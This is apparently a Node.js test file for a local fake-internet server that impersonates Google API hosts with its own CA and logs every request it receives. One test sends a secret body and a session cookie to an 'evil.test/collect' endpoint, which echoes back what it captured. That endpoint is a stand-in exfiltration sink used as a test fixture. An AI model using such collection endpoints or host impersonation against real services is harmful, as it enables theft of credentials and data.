import assert from 'node:assert/strict'
import { once } from 'node:events'
import { readFile, stat } from 'node:fs/promises'
import { connect as connectTcp, createServer as createTcpServer } from 'node:net'
import { join } from 'node:path'
import { test } from 'node:test'
import { connect as connectTls } from 'node:tls'
import { gunzipSync } from 'node:zlib'
import { createAuthority } from '@bookinfo/pki'
import { startWorld } from './test-world.ts'

const comedy = 'https://www.googleapis.com/books/v1/volumes?q=isbn:0486424618'

test('the book Bookinfo asks for comes over TLS, and the record tells how', async (t) => {
  const { world, get } = await startWorld(t)
  const { status, headers, text } = await get(comedy, { headers: { 'user-agent': 'Ruby' } })
  assert.equal(status, 200)
  assert.equal(headers['content-type'], 'application/json; charset=UTF-8')
  assert.equal(JSON.parse(text).items[0].volumeInfo.title, 'The Comedy of Errors')
  const [entry, ...more] = world.received()
  assert.deepEqual(more, [])
  assert.equal(entry?.kind, 'request')
  assert.equal(entry.encrypted, true)
  assert.equal(entry.sni, 'www.googleapis.com')
  assert.equal(entry.tlsVersion, 'TLSv1.3')
  assert.equal(entry.path, '/books/v1/volumes?q=isbn:0486424618')
  assert.equal(entry.host, 'www.googleapis.com')
  assert.deepEqual(
    entry.headers.find(([name]) => name === 'user-agent'),
    ['user-agent', 'Ruby'],
  )
  assert.equal(entry.remoteAddress, '127.0.0.1')
})

test('the CA certificate is where it is said to be, for all to read; its key is for nobody else', async (t) => {
  const { started, stateDir } = await startWorld(t)
  assert.equal(await readFile(started.caFile, 'utf8'), started.certificatePem)
  assert.doesNotMatch(started.certificatePem, /PRIVATE KEY/)
  assert.equal((await stat(started.caFile)).mode & 0o777, 0o644)
  assert.equal((await stat(join(stateDir, 'outside-ca'))).mode & 0o777, 0o700)
})

test('clear HTTP is answered on the clear listener and recorded as not encrypted', async (t) => {
  const { world, get } = await startWorld(t)
  const { status } = await get('http://www.googleapis.com/books/v1/volumes?q=isbn:0486424618')
  assert.equal(status, 200)
  const [entry] = world.received()
  assert.deepEqual([entry?.listener, entry?.encrypted, entry?.sni], ['http', false, null])
})

test('clear bytes on the TLS port get no answer and are kept as evidence', async (t) => {
  const { world, started } = await startWorld(t)
  const socket = connectTcp(started.httpsPort, '127.0.0.1')
  socket.resume().end('GET /secret HTTP/1.1\r\nHost: www.googleapis.com:443\r\n\r\n')
  await once(socket, 'close')
  assert.equal(socket.bytesRead, 0)
  const [entry] = world.received()
  assert.deepEqual(
    [entry?.kind, entry?.encrypted, entry?.method, entry?.path, entry?.host],
    ['clear-bytes', false, 'GET', '/secret', 'www.googleapis.com:443'],
  )
})

test('a name that is not outside gets the TLS alert unrecognized_name, and so does no name', async (t) => {
  const { world, started } = await startWorld(t)
  for (const name of ['nowhere.test', '']) {
    const socket = connectTls({ port: started.httpsPort, host: '127.0.0.1', servername: name })
    const [error] = await once(socket, 'error')
    assert.match(error.message, /unrecognized name/)
  }
  assert.deepEqual(
    world.received().map(({ kind, sni }) => [kind, sni]),
    [
      ['refused', 'nowhere.test'],
      ['refused', null],
    ],
  )
})

test('a ClientHello that arrives byte by byte is understood', async (t) => {
  const { started } = await startWorld(t)
  const relay = createTcpServer((near) => {
    const far = connectTcp({ port: started.httpsPort, host: '127.0.0.1', noDelay: true })
    near.on('data', (bytes) => {
      for (const byte of bytes) far.write(Buffer.of(byte))
    })
    far.pipe(near)
    for (const end of [near, far]) end.on('error', () => end.destroy())
  })
  t.after(() => relay.close())
  relay.listen(0, '127.0.0.1')
  await once(relay, 'listening')
  const bound = relay.address()
  assert.ok(bound !== null && typeof bound === 'object')
  const ca = started.certificatePem
  const socket = connectTls({ port: bound.port, host: '127.0.0.1', servername: 'evil.test', ca })
  await once(socket, 'secureConnect')
  assert.equal(socket.authorized, true)
  socket.destroy()
})

test('only HTTP/1.1 is spoken: h2 alone is refused, h2 beside it is passed over', async (t) => {
  const { started } = await startWorld(t)
  const at = { port: started.httpsPort, host: '127.0.0.1', ca: started.certificatePem }
  const both = connectTls({ ...at, servername: 'evil.test', ALPNProtocols: ['h2', 'http/1.1'] })
  await once(both, 'secureConnect')
  assert.equal(both.alpnProtocol, 'http/1.1')
  both.destroy()
  const alone = connectTls({ ...at, servername: 'evil.test', ALPNProtocols: ['h2'] })
  const [error] = await once(alone, 'error')
  assert.match(error.message, /no application protocol/)
})

test('fcm.googleapis.com answers too, and a request for another name on its connection is misdirected', async (t) => {
  const { get } = await startWorld(t)
  const own = await get('https://fcm.googleapis.com/fcm/send')
  assert.deepEqual([own.status, JSON.parse(own.text).host], [200, 'fcm.googleapis.com'])
  const other = await get('https://fcm.googleapis.com/', {
    headers: { host: 'www.googleapis.com' },
  })
  assert.equal(other.status, 421)
})

test('evil.test answers whatever it is asked and tells what it got to know', async (t) => {
  const { get } = await startWorld(t)
  const { status, text } = await get('https://evil.test/collect?x=1', {
    method: 'POST',
    body: 'a secret',
    headers: { host: 'www.googleapis.com', cookie: 'session=1' },
  })
  const { received } = JSON.parse(text)
  assert.equal(status, 200)
  assert.deepEqual(
    [received.method, received.path, received.host, received.sni, received.body],
    ['POST', '/collect?x=1', 'www.googleapis.com', 'evil.test', 'a secret'],
  )
  assert.ok(received.headers.includes('cookie: session=1'))
})

test('an answer is compressed for those who accept gzip, and for no other', async (t) => {
  const { get } = await startWorld(t)
  const ruby = await get(comedy, {
    headers: { 'accept-encoding': 'gzip;q=1.0,deflate;q=0.6,identity;q=0.3' },
  })
  assert.equal(ruby.headers['content-encoding'], 'gzip')
  assert.equal(JSON.parse(gunzipSync(ruby.bytes).toString()).totalItems, 1)
  const not = await get(comedy, { headers: { 'accept-encoding': 'gzip;q=0, br' } })
  assert.equal(not.headers['content-encoding'], undefined)
})

test('HEAD gets the length and no body', async (t) => {
  const { get } = await startWorld(t)
  const { headers, bytes } = await get(comedy, { method: 'HEAD' })
  assert.ok(Number(headers['content-length']) > 500)
  assert.equal(bytes.length, 0)
})

test('another CA is not what these certificates are signed by', async (t) => {
  const { get } = await startWorld(t)
  const { certificatePem } = await createAuthority({ commonName: 'Bookinfo outside world CA' })
  await assert.rejects(get(comedy, { ca: certificatePem }))
})

test('a second start under the same state directory keeps the CA', async (t) => {
  const first = await startWorld(t)
  const second = await startWorld(t, { stateDir: first.stateDir })
  assert.equal(second.started.certificatePem, first.started.certificatePem)
})

test('a taken port fails with its number, and leaves nothing open', async (t) => {
  const { started } = await startWorld(t)
  await assert.rejects(startWorld(t, { httpPort: started.httpPort }), {
    code: 'EADDRINUSE',
    port: started.httpPort,
  })
})

test('the last 200 things received are kept', async (t) => {
  const { world, agentFor, get } = await startWorld(t)
  const agent = agentFor()
  for (let count = 0; count < 203; count += 1) {
    await get(`http://evil.test/${count}`, { agent })
  }
  const paths = world.received().map((entry) => entry.path)
  assert.deepEqual([paths.length, paths[0], paths.at(-1)], [200, '/3', '/202'])
})
